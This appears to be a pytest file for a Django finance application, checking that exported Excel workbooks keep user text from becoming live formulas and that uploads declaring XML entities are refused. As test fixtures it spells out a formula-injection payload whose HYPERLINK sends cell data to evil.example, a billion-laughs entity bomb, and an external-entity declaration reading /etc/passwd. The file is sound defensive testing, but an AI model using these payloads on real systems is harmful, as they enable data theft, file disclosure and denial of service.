"""The finance workbooks are safe both ways (issue 11, point 8): user text (a change item of a
committee or a party) is written as text, never a live formula; an upload that declares XML
entities (a billion-laughs bomb, an external entity) is refused with a message, nothing saved."""

from __future__ import annotations

import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from arshjul.accounts.roles import SYSTEM
from arshjul.core import xlsx
from arshjul.demo.finance import V2, load_frames, load_space
from arshjul.finance import services_frames
from arshjul.finance.models import FrameVersion, Scenario, ScenarioYear

FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"Klicka")'
BOMB = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
"""
EXTERNAL = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
"""


@pytest.fixture
def frames(world):
    load_space(world.org)
    load_frames(world.org)
    scenario = Scenario.objects.get(cycle=world.cycle, name="Bas")
    v2 = FrameVersion.objects.get(scenario=scenario, name=V2)
    slug = world.cycle.slug
    return {
        "scenario": scenario,
        "v2": v2,
        "export": reverse("finance:excel_frames", args=[slug, scenario.pk, v2.pk]),
        "everything": reverse("finance:excel_everything", args=[slug, scenario.pk]),
        "assumptions": reverse("finance:excel_assumptions", args=[slug, scenario.pk]),
        "import": reverse("finance:excel_assumptions_import", args=[slug, scenario.pk]),
    }


def _formula_cells(content: bytes) -> list[str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_a_change_item_that_starts_with_equals_is_text(world, frames, client_for):
    services_frames.add_item(
        version=frames["v2"],
        body=world.committee_a,
        year=2023,
        kind="adjustment",
        amount=Decimal(1000),
        text=FORMULA,
        decision="=1+1",
        by=SYSTEM,
        expected=frames["v2"].version,
    )
    client = client_for("finance_officer")
    for url in (frames["export"], frames["everything"]):
        response = client.get(url)
        assert response.status_code == 200
        assert _formula_cells(response.content) == []
        workbook = load_workbook(BytesIO(response.content))
        cells = [
            c
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for c in row
            if c.value in (FORMULA, "=1+1")
        ]
        assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def test_a_formula_stays_one_only_where_the_writer_allows_it():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["=1+1", 2])
    xlsx.allow_formula(sheet.cell(row=2, column=1, value="=SUM(B1:B1)"))
    content = xlsx.to_bytes(workbook)
    read = load_workbook(BytesIO(content)).active
    assert read["A1"].data_type == "s" and read["A2"].data_type == "f"


def _with_part(content: bytes, name: str, prolog: bytes) -> bytes:
    """The workbook with its part `name` preceded by `prolog` (a DOCTYPE)."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == name:
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                data = prolog + body.lstrip()
            target.writestr(info, data)
    return out.getvalue()


# past the first 4 KB the upload check does not look: defusedxml (in openpyxl) refuses it
DEEP = b'<?xml version="1.0"?><!--' + b"x" * 5000 + b"-->" + BOMB.split(b"?>", 1)[1]


@pytest.mark.parametrize(
    ("part", "prolog"),
    [
        ("xl/worksheets/sheet1.xml", BOMB),
        ("xl/workbook.xml", EXTERNAL),
        ("xl/worksheets/sheet1.xml", DEEP),
    ],
)
def test_an_upload_declaring_entities_is_refused_with_a_message(frames, client_for, part, prolog):
    client = client_for("finance_officer")
    client.cookies["django_language"] = "en"
    content = client.get(frames["assumptions"]).content
    bad = _with_part(content, part, prolog)
    before = list(ScenarioYear.objects.values())
    response = client.post(frames["import"], {"file": SimpleUploadedFile("a.xlsx", bad)})
    assert response.status_code == 400
    assert [str(e) for e in response.context["errors"]] == [
        "The file declares XML entities or a document type, which are refused for safety. "
        "Save it as .xlsx again from Excel."
    ]
    assert list(ScenarioYear.objects.values()) == before


def test_openpyxl_parses_through_defusedxml():
    from openpyxl import DEFUSEDXML

    assert DEFUSEDXML is True
